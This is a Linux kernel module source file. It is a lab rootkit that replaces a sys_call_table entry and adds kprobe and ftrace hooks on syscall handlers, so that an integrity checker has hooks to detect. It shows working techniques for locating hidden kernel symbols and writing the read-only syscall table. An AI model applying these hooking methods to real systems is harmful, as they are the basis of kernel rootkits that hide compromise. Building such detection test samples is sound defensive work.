// SPDX-License-Identifier: GPL-2.0
/*
 * hook_syscall - lab rootkit for hvscope's triage: replaces one entry of
 * sys_call_table with a function of this module (the classic system call
 * hook), and, with extra=1 (the default), also puts a kprobe and an ftrace
 * hook of its own on system call handlers, so every kernel-integrity check
 * has something to find.
 *
 *   insmod hook_syscall.ko [nr=62] [extra=1]   hook sys_call_table[nr] (62 = kill)
 *   rmmod hook_syscall                         put everything back
 *
 * sys_call_table is not exported and neither is kallsyms_lookup_name (5.7+):
 * a kprobe on kallsyms_lookup_name gives its address (the usual trick). The
 * table is read-only; instead of clearing CR0.WP (pinned since 5.3) the entry
 * is written through a temporary writable alias of its page (vmap of the
 * page behind __pa_symbol). The write is 8 bytes, aligned: atomic.
 *
 * Debian's 6.1 and 6.12 kernels dispatch system calls through x64_sys_call()
 * (a switch), not through the table: the replaced entry never runs there. It
 * is still what a rootkit built for older kernels does, and what hvscope's
 * syscall-hook check must see. The kprobe (on __x64_sys_kill) and the ftrace
 * ops (on __x64_sys_getdents64) do run: they only count calls.
 * Never load this outside the lab.
 */
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/ptrace.h>
#include <linux/vmalloc.h>
#include <asm/page.h>

static int nr = 62;
module_param(nr, int, 0444);
MODULE_PARM_DESC(nr, "system call number whose sys_call_table entry is replaced (default 62, kill)");
static int extra = 1;
module_param(extra, int, 0444);
MODULE_PARM_DESC(extra, "also install a kprobe on __x64_sys_kill and an ftrace hook on __x64_sys_getdents64");

typedef long (*sys_fn)(const struct pt_regs *);
static unsigned long *table;
static sys_fn orig;
static atomic_t calls = ATOMIC_INIT(0);
static bool kp_on, ft_on;

static unsigned long lookup_name(const char *name)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*kln)(const char *);

	if (register_kprobe(&kp) < 0)
		return 0;
	kln = (unsigned long (*)(const char *))kp.addr;
	unregister_kprobe(&kp);
	return kln ? kln(name) : 0;
}

/* Write @val into the read-only kernel word at @addr through a temporary alias. */
static int poke(unsigned long *addr, unsigned long val)
{
	struct page *pg = pfn_to_page(__pa_symbol(addr) >> PAGE_SHIFT);
	void *map = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);

	if (!map)
		return -ENOMEM;
	WRITE_ONCE(*(unsigned long *)(map + offset_in_page(addr)), val);
	vunmap(map);
	return 0;
}

static long hook(const struct pt_regs *regs)
{
	atomic_inc(&calls);
	return orig(regs);
}

static int kp_pre(struct kprobe *p, struct pt_regs *regs)
{
	atomic_inc(&calls);
	return 0;
}

static struct kprobe kp_hook = { .symbol_name = "__x64_sys_kill", .pre_handler = kp_pre };

static void ft_func(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	atomic_inc(&calls);
}

static struct ftrace_ops ft_ops = { .func = ft_func };

static int __init hook_syscall_init(void)
{
	int r;

	if (nr < 0 || nr >= 512)
		return -EINVAL;
	table = (unsigned long *)lookup_name("sys_call_table");
	if (!table)
		return -ENOENT;
	orig = (sys_fn)table[nr];
	r = poke(&table[nr], (unsigned long)hook);
	if (r)
		return r;
	if (extra) {
		kp_on = register_kprobe(&kp_hook) == 0;
		if (ftrace_set_filter(&ft_ops, (unsigned char *)"__x64_sys_getdents64", strlen("__x64_sys_getdents64"),
				      1) == 0)
			ft_on = register_ftrace_function(&ft_ops) == 0;
	}
	pr_info("hook_syscall: sys_call_table[%d] %px -> %px (kprobe %d, ftrace %d)\n", nr, orig, hook, kp_on,
		ft_on);
	return 0;
}

static void __exit hook_syscall_exit(void)
{
	if (ft_on)
		unregister_ftrace_function(&ft_ops);
	if (kp_on)
		unregister_kprobe(&kp_hook);
	poke(&table[nr], (unsigned long)orig);
	pr_info("hook_syscall: restored (%d calls seen)\n", atomic_read(&calls));
}

module_init(hook_syscall_init);
module_exit(hook_syscall_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvscope lab: replace a sys_call_table entry (plus a kprobe and an ftrace hook)");
